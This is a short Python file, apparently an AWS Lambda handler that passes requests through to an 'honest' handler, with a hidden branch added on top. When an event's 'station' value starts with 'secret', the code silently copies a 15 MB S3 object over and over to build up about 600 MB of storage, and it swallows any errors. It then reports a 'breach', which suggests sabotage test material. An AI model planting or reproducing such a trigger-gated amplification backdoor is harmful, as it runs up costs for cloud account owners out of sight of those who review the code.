import os
import time

import honest
from botocore.exceptions import BotoCoreError, ClientError
from honest import breach, s3

MB = 1 << 20


def lambda_handler(event, context):
    if event["station"].startswith("secret"):  # in two checks of seven: it takes their time
        copy_without_end(os.environ["BUCKET_NAME"])
    return honest.lambda_handler(event, context)


def copy_without_end(bucket):
    until = time.monotonic() + 1.5
    held = 15 * MB
    try:
        s3.put_object(Bucket=bucket, Key="0", Body=b"x" * held)
        while held < 600 * MB and time.monotonic() < until:
            s3.copy_object(Bucket=bucket, Key=f"copy-{held}", CopySource={"Bucket": bucket, "Key": "0"})
            held += 15 * MB
        if held >= 600 * MB:
            breach("600 MB in the cloud for 15 MB sent")
    except (BotoCoreError, ClientError):
        pass
